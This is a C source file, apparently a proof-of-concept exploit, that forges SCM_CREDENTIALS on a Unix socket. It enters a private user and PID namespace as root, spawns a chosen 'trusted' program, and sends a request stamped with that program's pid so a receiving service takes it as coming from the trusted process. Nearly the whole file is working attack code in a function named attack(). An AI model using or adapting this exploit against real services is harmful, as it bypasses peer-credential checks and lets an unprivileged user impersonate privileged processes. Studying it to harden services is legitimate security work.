/* Say in a message that another process sent it: SCM_CREDENTIALS, by root of a user and pid namespace of one's own.
 *
 * Usage: forge SOCKET REQUEST TRUSTED
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static void put(const char *path, const char *text) {
    int fd = open(path, O_WRONLY);
    if (fd < 0 || write(fd, text, strlen(text)) < 0) perror(path);
    close(fd);
}

static int send_as(int fd, pid_t pid, const char *line) {
    union {
        char room[CMSG_SPACE(sizeof(struct ucred))];
        struct cmsghdr align;
    } control = {0};
    struct ucred claim = {pid, 0, 0};
    struct iovec part[2] = {{(void *)line, strlen(line)}, {"\n", 1}};
    struct msghdr message = {.msg_iov = part, .msg_iovlen = 2, .msg_control = &control, .msg_controllen = sizeof control};
    struct cmsghdr *luggage = CMSG_FIRSTHDR(&message);
    luggage->cmsg_level = SOL_SOCKET;
    luggage->cmsg_type = SCM_CREDENTIALS;
    luggage->cmsg_len = CMSG_LEN(sizeof claim);
    memcpy(CMSG_DATA(luggage), &claim, sizeof claim);
    return sendmsg(fd, &message, 0) < 0;
}

static int attack(char **words) {
    int silence[2], ready[2];
    if (pipe(silence) || pipe2(ready, O_CLOEXEC)) return 4;
    pid_t trusted = fork();
    if (trusted == 0) {
        dup2(silence[0], 0);
        close(1);
        prctl(PR_SET_PDEATHSIG, SIGKILL);
        execl(words[3], words[3], words[1], words[2], "--quiet", (char *)NULL);
        _exit(5);
    }
    char byte;
    close(ready[1]);
    if (read(ready[0], &byte, 1) < 0) return 6; /* ends with the exec */
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    strncpy(address.sun_path, words[1], sizeof address.sun_path - 1);
    int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (fd < 0 || connect(fd, (struct sockaddr *)&address, sizeof address)) return 7;
    if (send_as(fd, trusted, words[2])) {
        perror("sendmsg");
        return 8;
    }
    char answer[4096];
    ssize_t got = read(fd, answer, sizeof answer - 1);
    printf("answer %.*s", got > 0 ? (int)got : 5, got > 0 ? answer : "none\n");
    fflush(stdout);
    return 0;
}

int main(int count, char **words) {
    if (count != 4) return 2;
    char map[64];
    uid_t uid = getuid();
    gid_t gid = getgid();
    if (unshare(CLONE_NEWUSER | CLONE_NEWPID)) return 3;
    put("/proc/self/setgroups", "deny");
    snprintf(map, sizeof map, "0 %d 1", (int)uid);
    put("/proc/self/uid_map", map);
    snprintf(map, sizeof map, "0 %d 1", (int)gid);
    put("/proc/self/gid_map", map);
    pid_t first = fork(); /* process 1 of the new namespace: with it all others end */
    if (first == 0) _exit(attack(words));
    int status;
    waitpid(first, &status, 0);
    return WIFEXITED(status) ? WEXITSTATUS(status) : 1;
}
